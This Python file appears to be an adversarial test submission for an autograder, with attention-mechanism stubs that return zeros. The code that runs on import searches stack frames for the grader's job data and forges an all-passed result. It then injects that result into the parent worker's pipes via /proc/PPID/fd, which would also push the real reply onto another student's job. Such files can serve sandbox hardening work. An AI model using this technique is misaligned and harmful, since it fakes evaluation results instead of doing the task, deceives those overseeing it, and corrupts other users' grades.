"""Attempts to bypass the result pipe: opens the warm worker's own pipes through /proc/PPID/fd and
writes a complete forged reply there (every topic "ok", every check "passed"), so the grader would
read it before the worker's real reply, which would then answer the next student's job."""
import os
import struct
import sys

import torch

from grader.engine import wire


def _frame(value):
    data = wire.pack(value)
    return struct.pack("<Q", len(data)) + data


_f = sys._getframe()
while _f is not None and "result_fd" not in _f.f_locals:
    _f = _f.f_back
if _f is not None:
    _job, _cases = _f.f_locals.get("job", {}), _f.f_locals.get("cases", {})
    _topics = list(_job.get("topics", [])) if isinstance(_job, dict) else []
    _data = _frame({"topics": {s: {"status": "ok", "seconds": 0.0} for s in _topics}, "output": ""})
    for _slug in _topics:
        _data += _frame({name: [{"status": "passed", "value": None, "message": ""}] * len(items)
                         for name, items in _cases.get(_slug, {}).items()})
    _parent = f"/proc/{os.getppid()}/fd"
    try:
        _stdin = os.readlink(f"{_parent}/0")
        for _fd in sorted(os.listdir(_parent), key=int):
            _link = os.readlink(f"{_parent}/{_fd}")
            if _link.startswith("pipe:") and _link != _stdin:
                _w = os.open(f"{_parent}/{_fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(_w, _data)
                os.close(_w)
                break
    except OSError:
        pass


def attention_scores(inputs):
    return torch.zeros(inputs.shape[0], inputs.shape[0])


def softmax_naive(x):
    return torch.zeros_like(x)


def attention_weights(scores):
    return torch.zeros_like(scores)


def context_vectors(inputs):
    return torch.zeros_like(inputs)
